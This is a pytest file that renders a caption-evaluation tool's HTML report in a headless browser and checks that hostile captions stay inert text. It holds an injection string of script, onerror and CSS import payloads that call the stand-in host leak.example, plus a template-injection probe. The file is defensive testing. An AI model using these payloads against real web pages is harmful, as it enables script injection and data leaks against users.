"""The page of `vcap evaluate -f html`, opened in a real browser without a screen."""

import json
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.browser import FLAGS, find_browser
from tests.unit.reports.test_html import Reader

EVIL = (
    "</td></table><script>document.title = 'owned'; fetch('http://leak.example/s')</script>"
    "<img src='http://leak.example/i' onerror=\"document.title = 'owned'\">"
    "<style>@import 'http://leak.example/c';</style>{{ 7 * 7 }}"
)
REFERENCES = {
    "a": ["a man plays the guitar", "someone is playing a guitar on stage"],
    "b": ["a dog is running on the grass", "the dog runs"],
    "c": ["a child sings a song", EVIL],
}
PREDICTIONS = {"a": "a man is playing a guitar", "b": EVIL, "c": "a child is singing"}


@pytest.fixture(scope="module")
def browser() -> str:
    """A browser that can open a page without a screen."""
    return find_browser()


@pytest.fixture
def network() -> Iterator[tuple[str, list[str]]]:
    """The address of a proxy that notes every address it is asked for, and the notes."""
    asked: list[str] = []

    class Notes(BaseHTTPRequestHandler):
        def note(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_GET = do_POST = do_CONNECT = note

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Notes)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def seen(browser: str, network: tuple[str, list[str]], tmp_path: Path) -> Any:
    """What a browser makes of a page that lies on the disk: its elements after loading."""

    def open_page(path: Path) -> str:
        words = [
            *(browser, *FLAGS, "--dump-dom"),
            *(f"--user-data-dir={tmp_path / 'profile'}", f"--proxy-server={network[0]}"),
            *("--proxy-bypass-list=<-loopback>", "--virtual-time-budget=2000", path.as_uri()),
        ]
        done = subprocess.run(words, capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout

    return open_page


@pytest.fixture
def page(vcap: Any, tmp_path: Path) -> Path:
    """The page of three captions, of which one would take the page over if it could."""
    for name, value in (("predictions", PREDICTIONS), ("references", REFERENCES)):
        (tmp_path / f"{name}.json").write_text(json.dumps(value), encoding="utf-8")
    files = (tmp_path / "predictions.json", "-r", tmp_path / "references.json")
    asked = ("--no-java", "--ci", "--resamples", 20, "-o", tmp_path / "page.html", "--json")
    result = vcap("evaluate", "caption", *files, *asked)
    assert result.exit_code == 0, result.stderr
    (tmp_path / "scores.json").write_text(result.stdout)
    return tmp_path / "page.html"


def test_a_browser_shows_the_scores_and_their_intervals(seen: Any, page: Path) -> None:
    scores = json.loads(page.with_name("scores.json").read_text())
    head, *rows = Reader(seen(page)).tables["scores"]
    assert head == ["metric", "score", "95 % interval"]
    assert rows == [
        [name, f"{100 * value:.2f}", " to ".join(f"{100 * end:.2f}" for end in ends)]
        for (name, value), ends in zip(
            scores["scores"].items(), scores["intervals"].values(), strict=True
        )
    ]


def test_a_browser_shows_charts_items_and_the_stamp(seen: Any, page: Path) -> None:
    found = Reader(seen(page))
    assert found.names.count("svg") == 7  # a histogram a score, and the leading one by length
    shown = {row[0] for row in found.tables["None"]}  # the worst and the best items
    assert {"a", "b", "c"} <= shown
    assert ["num videos", "3"] in found.tables["stamp"]


def test_a_caption_that_holds_a_script_stays_words(
    seen: Any, page: Path, network: tuple[str, list[str]]
) -> None:
    text = seen(page)
    found = Reader(text)
    assert "script" not in found.names
    assert "img" not in found.names
    assert found.names.count("style") == 1
    assert "<title>vcap evaluate caption</title>" in text
    cells = [cell for row in found.tables["None"] for cell in row]
    assert any(EVIL in cell for cell in cells)
    assert [path for path in network[1] if "leak.example" in path] == []


def test_the_browser_would_have_noticed_a_request(
    seen: Any, tmp_path: Path, network: tuple[str, list[str]]
) -> None:
    careless = tmp_path / "careless.html"
    careless.write_text("<!doctype html><title>x</title><img src='http://leak.example/i'>")
    seen(careless)
    assert "http://leak.example/i" in network[1]
